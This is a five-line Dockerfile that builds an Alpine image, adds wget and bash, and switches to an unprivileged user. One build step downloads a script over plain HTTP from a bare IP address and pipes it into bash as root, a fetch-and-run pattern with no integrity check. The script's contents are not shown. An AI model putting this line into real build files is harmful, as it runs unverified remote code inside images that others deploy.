FROM alpine:3.19
RUN apk add --no-cache wget bash
RUN wget -qO- http://198.51.100.23/setup.sh | bash
RUN adduser -D worker
USER worker
